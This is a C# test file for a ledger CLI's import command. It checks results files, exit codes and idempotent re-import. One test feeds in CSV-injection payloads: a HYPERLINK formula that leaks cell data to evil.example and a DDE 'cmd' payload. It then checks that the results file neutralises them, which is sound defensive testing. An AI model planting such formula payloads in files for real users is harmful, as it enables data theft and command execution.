using System.Text.Json;
using OversightLedger.Cli.Tests.TestSupport;
using Sylvan.Data.Csv;

namespace OversightLedger.Cli.Tests.Agency;

/// <summary><c>oversight import</c> against the real server: per-row results file, summary, 0 all recorded, 1 some refused, 2 nothing processed.</summary>
[Trait(TestCategories.Name, TestCategories.Slow)]
[Collection(LedgerServerCollection.Name)]
public sealed class ImportCommandTests(AgencyLedgerFixture ledger)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_csv_with_good_and_bad_rows_exits_1_and_writes_every_rows_result()
    {
        FundedProgram funded = await ledger.NewProgramAsync(capPerMonth: "100.00");
        string b = funded.Budget;
        string[] people = funded.Beneficiaries;
        string list = ledger.Temp.File($"{funded.Program}.csv");
        await File.WriteAllLinesAsync(
            list,
            [
                "id,budget,beneficiary,amount",
                $"row-1,{b},{people[0]},40.00",
                $"row-2,{b},{people[1]},25.50",
                $"row-3,{b},{people[0]},70.00", // 40 + 70 is over the cap of 100
                $"row-4,{b},someone-not-enrolled,10.00",
                $"row-5,{b},{people[2]},\"1,00\"",
                $"bad id,{b},{people[2]},1.00",
                $"row-7,{b},{people[2]},99.99",
            ],
            Ct);

        CliResult result = await ImportAsync(funded, list);

        Assert.True(result.ExitCode == 1, result.ToString());
        string resultsPath = ledger.Temp.File($"{funded.Program}.results.csv");
        Assert.Equal(
            $"rows 7, accepted 3, rejected 4\nresults {resultsPath}\nrejected: invalid-request 2, cap-exceeded 1, unknown-beneficiary 1\n",
            result.Stdout);
        Assert.Equal($"refused: 4 of 7 rows were refused; the reason for each is in {resultsPath}\n", result.Stderr);

        string[] lines = await File.ReadAllLinesAsync(resultsPath, Ct);
        Assert.Equal(8, lines.Length);
        Assert.Equal("row,id,status,leafIndex,code,message", lines[0]);
        Assert.Matches("^1,row-1,accepted,[0-9]+,,$", lines[1]);
        Assert.Matches("^2,row-2,accepted,[0-9]+,,$", lines[2]);
        Assert.Matches("^3,row-3,rejected,,cap-exceeded,\"the beneficiary ps_[^\"]+ would receive 110.00 USD in [0-9]{4}-[0-9]{2}, more than the cap of 100.00 USD\"$", lines[3]);
        Assert.Equal($"4,row-4,rejected,,unknown-beneficiary,the beneficiary is not enrolled in the program '{funded.Program}'", lines[4]); // no pseudonym: issue 11
        Assert.StartsWith("5,row-5,rejected,,invalid-request,\"'1,00' is not a USD amount", lines[5], StringComparison.Ordinal);
        Assert.StartsWith("6,bad id,rejected,,invalid-request,\"id: ids are", lines[6], StringComparison.Ordinal);
        Assert.Matches("^7,row-7,accepted,[0-9]+,,$", lines[7]);
        Assert.DoesNotContain(people[0], string.Join('\n', lines), StringComparison.Ordinal);

        // The accepted rows are in the log at the leaves the results file gives.
        ulong leaf = ulong.Parse(lines[1].Split(',')[3], System.Globalization.CultureInfo.InvariantCulture);
        JsonElement receipt = await ledger.Setup.GetJsonAsync($"api/programs/{funded.Program}/disbursements/row-1");
        Assert.Equal(leaf, receipt.GetProperty("leafIndex").GetUInt64());
        JsonElement budget = await ledger.Setup.GetJsonAsync($"api/budgets/{b}");
        Assert.Equal("165.49", budget.GetProperty("disbursed").GetString());
        Assert.Equal("0.00", budget.GetProperty("reserved").GetString());

        // Importing the same list again records nothing twice: the same leaves, the same refusals.
        string again = ledger.Temp.File($"{funded.Program}.again.csv");
        CliResult replay = await ImportAsync(funded, list, "--results", again);
        Assert.True(replay.ExitCode == 1, replay.ToString());
        string[] replayed = await File.ReadAllLinesAsync(again, Ct);
        Assert.Equal(lines[1], replayed[1]);
        Assert.Equal(lines[2], replayed[2]);
        Assert.Equal(lines[7], replayed[7]);
        Assert.Equal("165.49", (await ledger.Setup.GetJsonAsync($"api/budgets/{b}")).GetProperty("disbursed").GetString());
    }

    [Fact]
    public async Task A_json_list_that_is_all_accepted_exits_0_with_a_json_summary()
    {
        FundedProgram funded = await ledger.NewProgramAsync(capPerMonth: "500.00");
        string list = ledger.Temp.File($"{funded.Program}.json");
        object[] rows = [.. funded.Beneficiaries.Select((person, i) => new { id = $"json-{funded.Program}-{i}", budget = funded.Budget, beneficiary = person, amount = "10.00" })];
        await File.WriteAllTextAsync(list, JsonSerializer.Serialize(rows), Ct);

        CliResult result = await ImportAsync(funded, list, "--json");

        Assert.True(result.ExitCode == 0, result.ToString());
        Assert.Empty(result.Stderr);
        using var json = JsonDocument.Parse(result.Stdout);
        JsonElement root = json.RootElement;
        Assert.Equal(funded.Program, root.GetProperty("program").GetString());
        Assert.Equal(3, root.GetProperty("rows").GetInt32());
        Assert.Equal(3, root.GetProperty("accepted").GetInt32());
        Assert.Equal(0, root.GetProperty("rejected").GetInt32());
        string resultsPath = ledger.Temp.File($"{funded.Program}.results.csv");
        Assert.Equal(resultsPath, root.GetProperty("results").GetString());
        string[] lines = await File.ReadAllLinesAsync(resultsPath, Ct);
        Assert.Equal(4, lines.Length);
        Assert.All(lines.Skip(1), line => Assert.Matches("^[1-3],json-[^,]+,accepted,[0-9]+,,$", line));
    }

    [Fact]
    public async Task Nothing_processed_exits_2_and_writes_no_results()
    {
        FundedProgram funded = await ledger.NewProgramAsync();
        string badHeader = ledger.Temp.File($"{funded.Program}-header.csv");
        await File.WriteAllLinesAsync(badHeader, ["id,budget,person,amount", $"h-1,{funded.Budget},{funded.Beneficiaries[0]},1.00"], Ct);
        string text = ledger.Temp.File($"{funded.Program}.txt");
        await File.WriteAllTextAsync(text, "id,budget,beneficiary,amount\n", Ct);
        string good = ledger.Temp.File($"{funded.Program}-good.csv");
        await File.WriteAllLinesAsync(good, ["id,budget,beneficiary,amount", $"g-1,{funded.Budget},{funded.Beneficiaries[0]},1.00"], Ct);

        AssertNothingProcessed(await ImportAsync(funded, badHeader), "unknown column 'person'");
        Assert.False(File.Exists(ledger.Temp.File($"{funded.Program}-header.results.csv")));
        AssertNothingProcessed(await ImportAsync(funded, ledger.Temp.File("missing.csv")), "cannot read the payment list");
        AssertNothingProcessed(await ImportAsync(funded, text), "neither a .csv nor a .json");
        AssertNothingProcessed(await ImportAsync(funded, good, "--key", "olk_this-key-was-never-issued-by-the-server"), "401");
        AssertNothingProcessed(await ImportAsync(funded, good, "--key", ledger.OtherAgencyKey), "403");
        AssertNothingProcessed(await ImportAsync(funded, good, "--results", ledger.Temp.File("no-such-folder/results.csv")), "does not exist");
        Assert.False(File.Exists(ledger.Temp.File($"{funded.Program}-good.results.csv")));
        Assert.Equal(0, (await ledger.Setup.GetJsonAsync($"api/programs/{funded.Program}")).GetProperty("disbursements").GetInt32());
    }

    [Fact]
    public async Task Ids_that_a_spreadsheet_would_run_as_formulas_are_neutralised_in_the_results_file_and_numbers_stay_numbers()
    {
        FundedProgram funded = await ledger.NewProgramAsync(capPerMonth: "100.00");
        string b = funded.Budget;
        string[] hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"];
        string list = ledger.Temp.File($"{funded.Program}-hostile.csv");
        await File.WriteAllLinesAsync(
            list,
            [
                "id,budget,beneficiary,amount",
                $"ok-{funded.Program},{b},{funded.Beneficiaries[0]},1.00",
                .. hostile.Select(id => $"\"{id.Replace("\"", "\"\"", StringComparison.Ordinal)}\",{b},{funded.Beneficiaries[1]},1.00"),
            ],
            Ct);

        CliResult result = await ImportAsync(funded, list);

        Assert.True(result.ExitCode == 1, result.ToString());
        string resultsPath = ledger.Temp.File($"{funded.Program}-hostile.results.csv");
        List<string[]> rows = [];
        using (CsvDataReader reader = CsvDataReader.Create(resultsPath, new CsvDataReaderOptions { Delimiter = ',' }))
        {
            Assert.Equal(["row", "id", "status", "leafIndex", "code", "message"], Enumerable.Range(0, reader.FieldCount).Select(reader.GetName));
            while (reader.Read())
            {
                rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
            }
        }

        Assert.Equal(hostile.Length + 1, rows.Count);
        Assert.Equal(["1", $"ok-{funded.Program}", "accepted"], rows[0][..3]);
        Assert.Matches("^[0-9]+$", rows[0][3]);
        for (int i = 0; i < hostile.Length; i++)
        {
            string[] row = rows[i + 1];
            Assert.Equal((i + 2).ToString(System.Globalization.CultureInfo.InvariantCulture), row[0]);
            Assert.Equal("'" + hostile[i], row[1]);
            Assert.Equal("rejected", row[2]);
            Assert.All(row, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), cell));
        }
    }

    private Task<CliResult> ImportAsync(FundedProgram funded, string list, params string[] extra)
    {
        List<string> args = ["import", list, "--server", ledger.ServerUrl, "--program", funded.Program, .. extra];
        if (!extra.Contains("--key"))
        {
            args.AddRange(["--key", "@" + ledger.AgencyKeyFile]);
        }

        return OversightProcess.RunAsync(args);
    }

    private static void AssertNothingProcessed(CliResult result, string mentioned)
    {
        Assert.True(result.ExitCode == 2, result.ToString());
        Assert.Empty(result.Stdout);
        Assert.StartsWith("error: ", result.Stderr, StringComparison.Ordinal);
        Assert.Single(result.Stderr.TrimEnd('\n').Split('\n'));
        Assert.Contains(mentioned, result.Stderr, StringComparison.Ordinal);
    }
}
